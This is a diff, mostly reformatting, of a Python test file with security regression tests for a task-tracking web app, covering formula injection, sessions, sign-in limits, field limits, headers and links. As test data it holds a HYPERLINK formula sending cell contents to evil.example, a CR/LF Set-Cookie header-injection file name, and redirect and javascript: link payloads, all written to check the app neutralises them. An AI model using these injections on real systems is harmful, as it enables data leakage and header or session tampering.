@@ -1,6 +1,7 @@
 """The web-side findings of the security and fault review (issue 14): one regression test
 per item (3 formulas in the tracking sheet, 6 sessions, 7 the sign-in limit, 8 field limits,
 9 typed JSON bodies, 10 headers and links, 13 download names)."""
+
 from __future__ import annotations
 
 import io
@@ -26,11 +27,15 @@ def _json(c: TestClient) -> dict:
 
 # --- 3. The tracking sheet never holds a live formula ------------------------------------------
 
+
 def test_tracking_sheet_titles_and_units_starting_with_equals_stay_text(client_for):
     e = client_for("editor")
     formula = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
-    r = e.post("/tracking/items", headers=_json(e), json={
-        "title": formula, "lead_unit": "=1+1", "supporting_units": ["@SUM(A1)"], "year": 2024})
+    r = e.post(
+        "/tracking/items",
+        headers=_json(e),
+        json={"title": formula, "lead_unit": "=1+1", "supporting_units": ["@SUM(A1)"], "year": 2024},
+    )
     assert r.status_code == 200, r.text
     x = e.get("/tracking/report.xlsx", params={"year": 2024})
     ws = load_workbook(io.BytesIO(x.content)).active
@@ -44,8 +49,12 @@ def test_a_breakdown_sheet_cannot_bring_a_formula_into_the_tracking_sheet(client
     e = client_for("editor")
     doc = store.list_documents(web_db)[0]
     sheet = '任务,牵头单位\n"=HYPERLINK(""http://evil.example"",""分解表任务"")",+市经信局\n'.encode("utf-8-sig")
-    r = e.post("/tracking/import", headers=_json(e), data={"document_id": str(doc["id"])},
-               files={"file": ("分解表.csv", sheet, "text/csv")})
+    r = e.post(
+        "/tracking/import",
+        headers=_json(e),
+        data={"document_id": str(doc["id"])},
+        files={"file": ("分解表.csv", sheet, "text/csv")},
+    )
     assert r.status_code == 200 and r.json()["free"] == 1, r.text
     ws = load_workbook(io.BytesIO(e.get("/tracking/report.xlsx").content)).active
     row = next(row for row in ws.iter_rows(min_row=3) if str(row[1].value).startswith("=HYPERLINK"))
@@ -53,6 +62,7 @@ def test_a_breakdown_sheet_cannot_bring_a_formula_into_the_tracking_sheet(client
 
 
 # --- 13. A report's name cannot break a download's header ---------------------------------------
+
 
 def test_a_report_name_with_cr_lf_is_encoded_in_content_disposition(tmp_path):
     # a file name may hold any byte but "/" and NUL: a report saved as "宁波\r\nSet-Cookie: x=1.txt"
@@ -75,6 +85,7 @@ def test_a_report_name_with_cr_lf_is_encoded_in_content_disposition(tmp_path):
 
 
 # --- 6. Signing out ends the session everywhere; a session has an absolute lifetime ------------
+
 
 def test_a_copied_cookie_stops_working_after_logout(client_for, web_app):
     e = client_for("editor")
@@ -100,6 +111,7 @@ def test_a_session_in_constant_use_still_ends_after_its_absolute_lifetime(web_db
 
 
 # --- 7. The sign-in limit holds under concurrency and does not lock the real user out ----------
+
 
 def _attempts(app, monkeypatch):
     """Count the passwords checked, and the most checked at once."""
@@ -137,8 +149,11 @@ async def _burst(app, names_and_addresses, secret="wrong-password") -> list[int]
         transport = httpx.ASGITransport(app=app, client=(address, 4000))
         async with httpx.AsyncClient(transport=transport, base_url="http://testserver") as c:
             token = (await c.get("/session.json")).json()["csrf_token"]
-            r = await c.post("/login", data={"name": name, "password": secret, "csrf_token": token},
-                             headers={"Accept": "application/json"})
+            r = await c.post(
+                "/login",
+                data={"name": name, "password": secret, "csrf_token": token},
+                headers={"Accept": "application/json"},
+            )
             return r.status_code
 
     return await asyncio.gather(*(one(n, a) for n, a in names_and_addresses))
@@ -182,16 +197,20 @@ def test_guesses_for_one_name_from_many_addresses_meet_a_global_back_off(web_db,
 
 # --- 8. Every text and list field has a limit, named in the 422 and in docs/limits.md ----------
 
-@pytest.mark.parametrize("field, value", [
-    ("title", "长" * 2001),
-    ("lead_unit", "局" * 101),
-    ("supporting_units", [f"单位{i}" for i in range(51)]),
-    ("supporting_units", ["局" * 101]),
-    ("milestones", [{"due": "2025-06-30", "text": "节点"}] * 101),
-    ("milestones", [{"due": "2025-06-30", "text": "节" * 501}]),
-    ("deadline", "1" * 41),
-    ("reason", "因" * 2001),
-])
+
+@pytest.mark.parametrize(
+    "field, value",
+    [
+        ("title", "长" * 2001),
+        ("lead_unit", "局" * 101),
+        ("supporting_units", [f"单位{i}" for i in range(51)]),
+        ("supporting_units", ["局" * 101]),
+        ("milestones", [{"due": "2025-06-30", "text": "节点"}] * 101),
+        ("milestones", [{"due": "2025-06-30", "text": "节" * 501}]),
+        ("deadline", "1" * 41),
+        ("reason", "因" * 2001),
+    ],
+)
 def test_tracking_fields_over_their_limit_are_refused_naming_the_field(client_for, web_db, field, value):
     e = client_for("editor")
     r = e.post("/tracking/items", headers=_json(e), json={"title": "限额", "year": 2024, field: value})
@@ -199,14 +218,17 @@ def test_tracking_fields_over_their_limit_are_refused_naming_the_field(client_fo
     assert r.json()["error"]["message"].startswith(f"body.{field}")
 
 
-@pytest.mark.parametrize("field, value", [("note", "记" * 5001), ("evidence_url", "/" + "a" * 2000),
-                                          ("reason", "因" * 2001)])
+@pytest.mark.parametrize(
+    "field, value", [("note", "记" * 5001), ("evidence_url", "/" + "a" * 2000), ("reason", "因" * 2001)]
+)
 def test_progress_fields_over_their_limit_are_refused(client_for, web_db, field, value):
     e = client_for("editor")
     item = e.post("/tracking/items", headers=_json(e), json={"title": "进展限额", "year": 2024}).json()
-    r = e.post(f"/tracking/items/{item['id']}/progress", headers=_json(e), json={"status": "behind", field: value,
-                                                                                 **({} if field == "reason" else
-                                                                                    {"reason": "原因"})})
+    r = e.post(
+        f"/tracking/items/{item['id']}/progress",
+        headers=_json(e),
+        json={"status": "behind", field: value, **({} if field == "reason" else {"reason": "原因"})},
+    )
     assert r.status_code == 422 and r.json()["error"]["message"].startswith(f"body.{field}"), r.text
 
 
@@ -270,14 +292,25 @@ def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(web_d
         r = conn.getresponse()
         cookie = r.getheader("set-cookie").split(";")[0]
         token = json.loads(r.read())["csrf_token"]
-        conn.request("POST", "/login", body=f"name=admin&password={password('admin')}&csrf_token={token}",
-                     headers={"Cookie": cookie, "Content-Type": "application/x-www-form-urlencoded",
-                              "Accept": "application/json"})
+        conn.request(
+            "POST",
+            "/login",
+            body=f"name=admin&password={password('admin')}&csrf_token={token}",
+            headers={
+                "Cookie": cookie,
+                "Content-Type": "application/x-www-form-urlencoded",
+                "Accept": "application/json",
+            },
+        )
         r = conn.getresponse()
         body = json.loads(r.read())
         cookie, token = r.getheader("set-cookie").split(";")[0], body["csrf_token"]
-        headers = {"Cookie": cookie, "X-CSRF-Token": token, "Accept": "application/json",
-                   "Content-Type": "application/json"}
+        headers = {
+            "Cookie": cookie,
+            "X-CSRF-Token": token,
+            "Accept": "application/json",
+            "Content-Type": "application/json",
+        }
         conn.request("POST", "/tracking/items", body=json.dumps({"title": "类型", "year": 2024}), headers=headers)
         r = conn.getresponse()
         item = json.loads(r.read())["id"]
@@ -298,6 +331,7 @@ def test_wrong_json_types_get_422_naming_the_field_and_keep_the_connection(web_d
 
 
 # --- 10. Headers, the API page's assets, evidence links -----------------------------------------
+
 
 def test_every_answer_carries_csp_frame_and_sniffing_headers(client_for):
     v = client_for("viewer")
@@ -334,8 +368,9 @@ def test_the_api_page_is_served_from_the_package_to_readers_only(client_for):
         assert client_for("viewer").get(asset).status_code == 200
 
 
-@pytest.mark.parametrize("url", ["//evil.example", "/\\evil.example", "/\t/evil.example", "javascript:alert(1)",
-                                 "https:evil.example"])
+@pytest.mark.parametrize(
+    "url", ["//evil.example", "/\\evil.example", "/\t/evil.example", "javascript:alert(1)", "https:evil.example"]
+)
 def test_an_evidence_link_is_a_web_address_or_a_path_on_this_site(client_for, url):
     e = client_for("editor")
     item = e.post("/tracking/items", headers=_json(e), json={"title": "证据链接", "year": 2024}).json()
@@ -352,8 +387,9 @@ def test_an_evidence_link_is_a_web_address_or_a_path_on_this_site(client_for, ur
 def test_a_form_over_a_limit_shows_the_item_page_with_the_reason(client_for):
     e = client_for("editor")
     item = e.post("/tracking/items", headers=_json(e), json={"title": "表单限额", "year": 2024}).json()
-    r = e.post(f"/tracking/items/{item['id']}/progress",
-               data={"csrf_token": e.csrf, "note": "记" * 5001, "status": "on_track"})
+    r = e.post(
+        f"/tracking/items/{item['id']}/progress", data={"csrf_token": e.csrf, "note": "记" * 5001, "status": "on_track"}
+    )
     assert r.status_code == 422 and 'id="progress-form"' in r.text
     assert "note: String should have at most 5000 characters" in r.text
 
@@ -363,7 +399,10 @@ def test_a_sign_in_with_no_hashing_slot_free_is_told_to_come_back(web_db):
     limiter = app.state.login_limiter
     with TestClient(app) as c, limiter.hashing():  # the one slot is taken
         sign_in(c, None)
-        r = c.post("/login", data={"name": "viewer", "password": password("viewer"), "csrf_token": c.csrf},
-                   headers={"Accept": "application/json"})
+        r = c.post(
+            "/login",
+            data={"name": "viewer", "password": password("viewer"), "csrf_token": c.csrf},
+            headers={"Accept": "application/json"},
+        )
         assert r.status_code == 503 and r.headers["retry-after"] == "2" and "busy" in r.json()["error"]["message"]
     assert limiter.begin("viewer", "testclient")[0] == 0  # the attempt not checked was not counted
